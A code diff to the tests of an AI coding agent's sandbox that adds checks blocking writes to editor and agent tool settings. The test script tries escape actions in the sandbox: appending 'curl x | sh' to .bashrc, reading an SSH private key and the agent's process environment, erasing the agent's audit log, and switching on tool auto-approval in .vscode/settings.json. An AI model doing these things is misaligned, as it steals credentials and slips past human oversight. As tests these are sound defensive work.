@@ -47,6 +47,8 @@ attempt("nested_git", lambda: append("vendor/lib/.git/config", "[core]\n\tfsmoni
 attempt("bashrc", lambda: append(os.path.join(home, ".bashrc"), "curl x | sh\n"))
 attempt("outside", lambda: append("../outside.txt"))
 attempt("audit", lambda: open(".hazina/agent-memory/TASK.jsonl", "w").close())
+attempt("editor_settings", lambda: append(".vscode/settings.json", '{"chat.tools.autoApprove": true}\n'))
+attempt("tool_servers", lambda: append(".mcp.json", '{"mcpServers": {}}\n'))
 attempt("ssh_read", lambda: open(os.path.join(home, ".ssh", "id_ed25519")).read())
 def read_agent_env():
     data = open(f"/proc/{sys.argv[1]}/environ", "rb").read()
@@ -107,6 +109,10 @@ def guarded_project(git_project: Path) -> Path:
     memory = git_project / ".hazina" / "agent-memory"
     memory.mkdir(parents=True)
     (memory / "TASK.jsonl").write_text('{"event": "task_start"}\n', encoding="utf-8")
+    # an editor's and an agent's own settings: they run code later, outside the sandbox
+    (git_project / ".vscode").mkdir()
+    (git_project / ".vscode" / "settings.json").write_text("{}\n", encoding="utf-8")
+    (git_project / ".mcp.json").write_text("{}\n", encoding="utf-8")
     return git_project
 
 
@@ -118,6 +124,8 @@ def snapshot(project: Path, home: Path) -> dict[str, str | None]:
         home / ".bashrc",
         project.parent / "outside.txt",
         project / ".hazina" / "agent-memory" / "TASK.jsonl",
+        project / ".vscode" / "settings.json",
+        project / ".mcp.json",
     ]
     return {str(p): (p.read_text(encoding="utf-8") if p.exists() else None) for p in paths}
 
@@ -223,8 +231,14 @@ def test_each_nested_repository_is_protected_and_symlinks_are_not_followed(tmp_p
     (tmp_path / "sub").mkdir()
     (tmp_path / "sub" / ".git").write_text("gitdir: ../x\n", encoding="utf-8")  # a worktree pointer file
     (tmp_path / "link").symlink_to("/usr")
+    (tmp_path / "web" / ".VSCode").mkdir(parents=True)  # any case, any depth
+    (tmp_path / "web" / "team.code-workspace").write_text("{}\n", encoding="utf-8")
+    (tmp_path / ".mcp.json").write_text("{}\n", encoding="utf-8")
+    (tmp_path / "docs" / "settings.json").parent.mkdir()
+    (tmp_path / "docs" / "settings.json").write_text("{}\n", encoding="utf-8")
     found = {p.relative_to(tmp_path).as_posix() for p in protected_dirs(tmp_path)}
-    assert found == {"a/.git", "b/c/.hazina", "sub/.git"}
+    tools = {"web/.VSCode", "web/team.code-workspace", ".mcp.json"}
+    assert found == {"a/.git", "b/c/.hazina", "sub/.git", *tools}
 
 
 def test_an_explicit_bwrap_that_cannot_run_is_a_configuration_error(
@@ -240,6 +254,18 @@ def test_an_explicit_bwrap_that_cannot_run_is_a_configuration_error(
         "no OS sandbox: only the command policy guards commands",
         sandbox.SandboxExecSandbox(tmp_path).describe(),
     )
+
+
+def test_the_seatbelt_profile_denies_writes_to_tool_settings_present_or_not(tmp_path: Path) -> None:
+    from glmagent.tools.sandbox import SandboxExecSandbox
+
+    project = tmp_path / "proj"
+    (project / "web" / ".cursor").mkdir(parents=True)
+    profile = SandboxExecSandbox(project, home=tmp_path / "home", temp_dirs=(tmp_path / "t",)).profile()
+    denied = next(line for line in profile.splitlines() if line.startswith("(deny file-write* (subpath"))
+    root = project.resolve()
+    for path in (".git", ".hazina", ".vscode", ".claude", ".mcp.json", "web/.cursor"):
+        assert f'(subpath "{root / path}")' in denied, path
 
 
 def test_the_bwrap_argv_protects_git_and_hazina_and_hides_credentials(tmp_path: Path) -> None:
